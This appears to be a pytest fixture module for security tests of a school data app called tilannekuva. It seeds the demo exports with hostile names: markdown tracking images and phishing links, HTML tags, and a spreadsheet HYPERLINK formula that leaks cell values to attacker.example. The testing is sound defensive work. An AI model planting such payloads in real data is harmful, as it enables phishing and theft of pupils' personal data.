"""Security tests (issue 16): the hostile names an attacker could put into a source system, loaded the
way real data arrives — as exports through the real `tilannekuva ingest` command — and a Streamlit
server on that data for the browser tests.

The demo city's own exports are rewritten with the payloads in every unit, district, school-year,
group, pupil and staff name, and loaded into a copy of the tiny demo warehouse; then one more load
with a hostile column header is rejected, so the admin's loads page shows its problems.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import polars as pl
import pytest

from tests.helpers import serve
from tilannekuva.settings import PROJECT_ROOT

HOSTILE_UNIT = (
    "Lundbackas skola ![logo](https://attacker.example/track.png?u=164) "
    "[Kirjaudu uudelleen](https://attacker.example/login)"
)
HOSTILE_GROUP = '7A <a href="https://attacker.example/g">avaa</a> <img src="https://attacker.example/g.png">'
HOSTILE_SURNAME = '=HYPERLINK("https://attacker.example/x?d="&A3&B3&C3&D3,"Mäkinen")'
HOSTILE_FIRST_NAME = "<b>Aino</b> ![p](https://attacker.example/p.png)"
HOSTILE_STAFF = "[Henkilö](https://attacker.example/s) :red[punainen] $x^2$"
HOSTILE_DISTRICT = "https://attacker.example/alue :material/warning: www.attacker.example pahis@attacker.example"
HOSTILE_YEAR = " ![y](https://attacker.example/y.png)"
HOSTILE_HEADER = "![h](https://attacker.example/header.png) [Lataa](https://attacker.example/h)"
OUTSIDE = "attacker.example"

DOWNLOAD_SECONDS = 4  # how long a clicked download stays at /media on the test server


def _cli(home: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "TILANNEKUVA_DATA_DIR": str(home), "TILANNEKUVA_MODE": "demo"}
    return subprocess.run(
        [sys.executable, "-m", "tilannekuva.cli", *args],
        env=env,
        cwd=PROJECT_ROOT,
        capture_output=True,
        text=True,
        timeout=600,
    )


def hostile_exports(warehouse_file: Path, out: Path) -> Path:
    """The demo city's exports of the named entities, with the payloads in every name."""
    from tilannekuva.ingest.exports import write_exports

    raw = out / "raw"
    write_exports(warehouse_file, raw, style="csv")
    load = out / "hostile"
    load.mkdir()
    edits = {
        "yksikot": [pl.col("name") + " " + HOSTILE_UNIT],
        "alueet": [pl.col("name_fi") + " " + HOSTILE_DISTRICT, pl.col("name_sv") + " " + HOSTILE_DISTRICT],
        "lukuvuodet": [pl.col("label") + HOSTILE_YEAR],
        "ryhmat": [pl.col("name") + " " + HOSTILE_GROUP],
        "oppilaat": [pl.lit(HOSTILE_SURNAME).alias("last_name"), pl.col("first_name") + " " + HOSTILE_FIRST_NAME],
        "henkilosto": [pl.col("last_name") + " " + HOSTILE_STAFF],
    }
    for source, columns in edits.items():
        frame = pl.read_csv(raw / f"{source}.csv", infer_schema=False)
        frame.with_columns(columns).write_csv(load / f"{source}.csv")
    return load


@pytest.fixture(scope="module")
def hostile_home(demo_home, tmp_path_factory) -> Path:
    """A data directory serving the tiny demo city with hostile names, loaded by `tilannekuva ingest`,
    and a rejected load whose problems name a hostile column header."""
    from tilannekuva.warehouse import current_file

    home = tmp_path_factory.mktemp("hostile-home")
    shutil.copytree(demo_home / "demo", home / "demo")
    shutil.copytree(demo_home / "warehouse", home / "warehouse")
    exports = hostile_exports(current_file(demo_home / "warehouse"), tmp_path_factory.mktemp("hostile-exports"))
    loaded = _cli(home, "ingest", str(exports))
    assert loaded.returncode == 0, loaded.stdout + loaded.stderr
    rejected = tmp_path_factory.mktemp("rejected")
    pl.read_csv(exports / "yksikot.csv", infer_schema=False).head(3).with_columns(
        pl.lit("x").alias(HOSTILE_HEADER)
    ).write_csv(rejected / "yksikot.csv")
    refused = _cli(home, "ingest", str(rejected))
    assert refused.returncode == 1, refused.stdout + refused.stderr
    return home


@pytest.fixture(scope="module")
def hostile_server(hostile_home):
    """A server on the hostile data (one per module); downloads stay at /media for DOWNLOAD_SECONDS."""
    yield from serve(hostile_home, {"TILANNEKUVA_DOWNLOAD_SECONDS": str(DOWNLOAD_SECONDS)})
